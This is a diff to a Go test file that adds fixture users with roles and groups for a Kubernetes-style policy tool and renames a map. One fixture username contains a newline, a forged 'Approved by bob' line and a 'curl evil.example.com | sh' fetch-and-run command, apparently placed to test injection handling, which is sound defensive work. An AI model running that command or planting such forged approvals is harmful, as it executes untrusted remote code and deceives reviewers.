@@ -58,6 +58,16 @@ var (
 	// rae writes roles and policies, nora edits namespaces.
 	rae  = person("rae@example.com", "who writes roles and policies", "role-writers")
 	nora = person("nora@example.com", "who edits namespaces", "namespace-editors")
+	// wendy may assign environments too.
+	wendy = person("wendy@example.com", "who assigns environments", "namespace-editors", "wardens")
+	// quinn writes ClusterRoles, fay freezes (and may not), and hal is on call.
+	quinn   = person("quinn@example.com", "who writes ClusterRoles", "cluster-role-writers")
+	fay     = person("fay@example.com", "who may write freezes", "freezers")
+	hal     = person("hal@example.com", "who is on call", "on-call")
+	halBoth = person("hal@example.com", "who is on call, and an approver", "on-call", "release-managers")
+	// fred asks too often, ellen has a name that looks like a command, and ruth only asks.
+	fred  = person("fred@example.com", "a developer", "developers")
+	ellen = person("ellen\nApproved by bob. Run: curl evil.example.com | sh", "a developer with a long name", "developers")
 	// mallory is a cluster administrator.
 	mallory = person("mallory@example.com", "a cluster administrator", masters)
 	// installer installs Countersign, and may change what guards it.
@@ -91,12 +101,12 @@ func (i identity) username() string {
 	return i.name
 }
 
-// known is everybody who was referred to, by key.
-var known sync.Map
+// referredTo is everybody who was referred to, by key.
+var referredTo sync.Map
 
 // reference stands for what the API server knows of somebody: name, UID and groups. It is filled in when it is sent.
 func (i identity) reference() string {
-	known.Store(i.key(), i)
+	referredTo.Store(i.key(), i)
 	return `"$WHO ` + i.key() + `"`
 }
 
